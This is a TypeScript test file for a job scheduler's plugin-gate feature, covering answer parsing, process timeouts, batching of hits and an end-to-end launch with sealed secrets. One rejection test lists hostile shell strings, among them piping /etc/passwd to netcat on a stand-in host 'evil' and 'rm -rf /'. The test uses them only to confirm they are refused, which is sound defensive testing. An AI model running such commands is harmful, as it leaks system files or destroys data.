/**
 * Scheduler plugins (behaviour §8 `plugin` trigger): a scheduled hit launches only when the trigger's plugin, a real
 * process reading the hits on stdin, says so; its delay and data reach the job; a failing, slow or confused plugin
 * launches nothing; hits for one plugin that arrive together run the plugin once.
 */
import { chmod, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { JOBS_INDEX, JOBS_SCOPE, createApp, createProducer, getActiveJob, prepareApp, sealSecret } from '@shallot/core';
import { testContext } from '@shallot/core/testing';
import { type ScheduleLaunchPayload, scheduleLaunchQueue } from '@shallot/schemas';
import t from 'tap';
import { jobRunnerPlugin } from '../src/plugin.js';
import { commandLine } from '../src/plugins/command-line.js';
import { launchJobId } from '../src/index.js';
import { type GateItem, SchedulerPluginGate, parseGateAnswer, runGatePlugin } from '../src/scheduler/plugin-gate.js';

const SERVER = 'splugin-runner-1';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** A scheduler plugin in Node: launches events whose params say `go`, with the delay and data they ask for. */
const DECIDER = `
const chunks = [];
process.stdin.on('data', (c) => chunks.push(c));
process.stdin.on('end', () => {
  const input = JSON.parse(Buffer.concat(chunks).toString());
  if (process.env.GATE_LOG) require('fs').appendFileSync(process.env.GATE_LOG, JSON.stringify(input) + '\\n');
  console.log('some log line first');
  const items = input.items.map((item) => item.params.go ? { launch: true, delay: item.params.delay, data: { hour: item.dargs.hour, zone: item.timezone, secret: input.secrets.GATE_TOKEN } } : false);
  console.log(JSON.stringify({ xy: 1, items }));
});
`;

const item = (params: Record<string, unknown> = {}): GateItem => ({
  plugin_id: 'p',
  params,
  timezone: 'UTC',
  dargs: { year: 2026, month: 12, day: 4, rday: -28, weekday: 5, hour: 18, minute: 0 },
  now: 1_796_407_200,
  job: { id: 'j1' },
});
const context = { secrets: { GATE_TOKEN: 's3cret' }, baseUrl: 'http://127.0.0.1:1', activeJobs: [] };

t.test('answers are read from the last stdout line and must align with the items', async (t) => {
  t.same(parseGateAnswer('log\n{"xy":1,"items":[true,false,{"launch":true,"delay":30,"data":{"a":1}},{"launch":false}]}\n', 4), [
    { launch: true },
    { launch: false, reason: 'declined by the scheduler plugin' },
    { launch: true, delay: 30, data: { a: 1 } },
    { launch: false, reason: 'declined by the scheduler plugin' },
  ]);
  t.match(parseGateAnswer('{"xy":1,"items":[true]}', 2), { error: /answered 1 items for 2/ });
  t.match(parseGateAnswer('', 1), { error: /printed nothing/ });
  t.match(parseGateAnswer('not json', 1), { error: /not JSON/ });
  t.match(parseGateAnswer('{"items":[true]}', 1), { error: /must be \{"xy":1/ });
  t.match(parseGateAnswer('{"xy":1,"items":[{"launch":true,"delay":-1}]}', 1), [{ launch: false, reason: /delay must be/ }]);
  t.match(parseGateAnswer('{"xy":1,"items":[{"launch":true,"data":[1]}]}', 1), [{ launch: false, reason: /data must be an object/ }]);
  t.match(parseGateAnswer('{"xy":1,"items":["yes"]}', 1), [{ launch: false, reason: /neither a boolean nor an object/ }]);
});

t.test('commands are split like sh words, never run by a shell', async (t) => {
  t.same(commandLine('python3 -u "my script.py"', '/tmp/s'), { file: 'python3', args: ['-u', 'my script.py', '/tmp/s'] });
  t.same(commandLine('echo $HOME'), { file: 'echo', args: ['$HOME'] }, 'variables stay literal');
  for (const bad of ['cat /etc/passwd | nc evil 1', 'node > /tmp/x', 'a; rm -rf /', 'a && b', 'ls *']) {
    t.match(commandLine(bad), { error: /may not contain/ }, bad);
  }
  t.match(commandLine('  '), { error: /no command/ });
  t.match(commandLine(undefined), { error: /no command/ });
});

t.test('a real plugin process decides per item, with its secrets and params', async (t) => {
  const result = await runGatePlugin({ id: 'p', command: 'node', script: DECIDER }, [item({ go: true, delay: 5 }), item()], context);
  t.ok('stdout' in result, JSON.stringify(result));
  if (!('stdout' in result)) return;
  t.same(parseGateAnswer(result.stdout, 2), [
    { launch: true, delay: 5, data: { hour: 18, zone: 'UTC', secret: 's3cret' } },
    { launch: false, reason: 'declined by the scheduler plugin' },
  ]);
});

t.test('a plugin that fails, hangs or cannot start launches nothing and says why', async (t) => {
  t.match(await runGatePlugin({ id: 'p', command: 'sh', script: 'echo boom >&2; exit 3' }, [item()], context), {
    error: /exited with code 3: boom/,
  });
  const started = Date.now();
  t.match(await runGatePlugin({ id: 'p', command: 'sleep 30', timeout: 1 }, [item()], context), {
    error: /longer than its timeout \(1 s\)/,
  });
  t.ok(Date.now() - started < 20_000, 'the hung plugin was killed, not waited for');
  t.match(await runGatePlugin({ id: 'p', command: '/nonexistent/plugin' }, [item()], context), { error: /could not start/ });
  t.match(await runGatePlugin({ id: 'p', command: 'cat | sh' }, [item()], context), { error: /may not contain "\|"/ });
  t.match(await runGatePlugin({ id: 'p', command: 'true', uid: 'no-such-user-xyz' }, [item()], context), { error: /No user named/ });
});

t.test('hits for one plugin within the window run it once; other plugins run apart', async (t) => {
  const runs: Array<{ plugin: string; items: number }> = [];
  const gate = new SchedulerPluginGate({
    windowMs: 100,
    context: async () => context,
    run: async (plugin, items, ctx) => {
      runs.push({ plugin: plugin.id, items: items.length });
      return runGatePlugin(plugin, items, ctx);
    },
  });
  const a = { id: 'a', command: 'node', script: DECIDER };
  const b = { id: 'b', command: 'node', script: DECIDER };
  const decisions = await Promise.all([gate.decide(a, item({ go: true })), gate.decide(a, item()), gate.decide(b, item({ go: true }))]);
  t.match(decisions, [{ launch: true }, { launch: false }, { launch: true }]);
  t.same(
    runs.sort((x, y) => x.plugin.localeCompare(y.plugin)),
    [
      { plugin: 'a', items: 2 },
      { plugin: 'b', items: 1 },
    ],
  );
});

t.test('scheduled launches through a real runner: the plugin gates each event, its delay and data reach the job', async (t) => {
  const ctx = await testContext(t, { serverId: SERVER, heartbeatSeconds: 1, shutdownTimeoutMs: 3000, timezone: 'Europe/Paris' });
  const dir = await mkdtemp(join(tmpdir(), 'splugin-test-'));
  const gateLog = join(dir, 'gate.log');
  // The plugin's script is a file the command runs, with the log path in its environment through a secret.
  const script = join(dir, 'decide.js');
  await writeFile(script, DECIDER);
  await chmod(script, 0o755);
  await ctx.store.collections.create('categories', { id: 'general', title: 'General', enabled: true });
  await ctx.store.collections.create('plugins', { id: 'testplug', title: 'Test', type: 'event', command: '[test-plugin]', enabled: true });
  await ctx.store.collections.create('plugins', { id: 'gate', title: 'Gate', type: 'scheduler', command: `node ${script}`, enabled: true });
  await ctx.store.collections.create('plugins', { id: 'off', title: 'Off', type: 'scheduler', command: `node ${script}`, enabled: false });
  const event = (id: string, trigger: Record<string, unknown>) => ({
    id,
    title: id,
    enabled: true,
    category: 'general',
    plugin: 'testplug',
    targets: [SERVER],
    algo: 'random',
    params: { duration: 0 },
    triggers: [
      { type: 'schedule', enabled: true, minutes: [0] },
      { type: 'plugin', enabled: true, ...trigger },
    ],
  });
  await ctx.store.collections.create('events', event('go', { plugin_id: 'gate', params: { go: true, delay: 3600 } }));
  await ctx.store.collections.create('events', event('nogo', { plugin_id: 'gate', params: {} }));
  await ctx.store.collections.create('events', event('disabled-gate', { plugin_id: 'off', params: { go: true } }));
  await ctx.store.collections.create('secrets', {
    id: 'gatelog',
    title: 'gate log',
    enabled: true,
    plugins: ['gate'],
    names: ['GATE_LOG'],
  });
  await ctx.store.collections.create('secret_values', {
    id: 'gatelog',
    sealed: await sealSecret(ctx.secretKey, 'gatelog', [
      { name: 'GATE_LOG', value: gateLog },
      { name: 'GATE_TOKEN', value: 'tok-1' },
    ]),
  });

  const app = createApp(ctx.config);
  await prepareApp(app, ctx, 'job-runner');
  await app.register(jobRunnerPlugin, { ctx, scheduler: false });
  await app.ready();
  t.teardown(() => app.close());
  const producer = createProducer(ctx.redis, scheduleLaunchQueue);
  t.teardown(() => producer.close());

  const now = Math.floor(Date.now() / 60_000) * 60 - 60;
  const payload = (eventId: string): ScheduleLaunchPayload => ({
    key: `${eventId}.${now}`,
    event: eventId,
    now,
    minute: now,
    source: 'plugin',
    splugin: eventId === 'disabled-gate' ? 'off' : 'gate',
    invisible: true,
    fence: 1,
  });
  await Promise.all(['go', 'nogo', 'disabled-gate'].map((id) => producer.add(payload(id))));

  const goId = launchJobId(payload('go'));
  let job: Record<string, unknown> | undefined;
  for (let i = 0; i < 300 && !job; i++) {
    job = await getActiveJob(ctx.redis, goId);
    if (!job) await sleep(100);
  }
  t.ok(job, 'the plugin launched "go"');
  t.equal(job?.state, 'start_delay', 'with the delay it asked for');
  t.equal(job?.until, now + 3600, 'counted from the slot');
  const wall = new Intl.DateTimeFormat('en-GB', { timeZone: 'Europe/Paris', hour: 'numeric', hourCycle: 'h23' }).format(now * 1000);
  t.same(
    (job?.input as { data?: unknown })?.data,
    { hour: Number(wall), zone: 'Europe/Paris', secret: 'tok-1' },
    "its data, from the event's time zone",
  );
  t.equal(job?.source, 'plugin');
  t.equal(job?.splugin, 'gate');
  t.notOk(job?.invisible, 'a plugin trigger clears invisible unless the plugin asks for it');

  await sleep(1500);
  t.notOk(await getActiveJob(ctx.redis, launchJobId(payload('nogo'))), 'declined: no job');
  t.notOk(await ctx.store.indexes.get(JOBS_INDEX.name, JOBS_SCOPE, launchJobId(payload('nogo'))));
  t.notOk(await getActiveJob(ctx.redis, launchJobId(payload('disabled-gate'))), 'a disabled scheduler plugin launches nothing');
  const calls = (await readFile(gateLog, 'utf8'))
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  t.equal(calls.length, 1, 'both hits of "gate" went to one process run');
  t.equal(calls[0].type, 'trigger');
  t.same(calls[0].items.map((i: GateItem) => i.job.event).sort(), ['go', 'nogo']);
  t.same(Object.keys(calls[0].items[0].dargs).sort(), ['day', 'hour', 'minute', 'month', 'rday', 'weekday', 'year']);
  t.ok(Array.isArray(calls[0].active_jobs));
  t.notOk('secrets' in calls[0].items[0].job, 'the job copy carries no secrets');
});
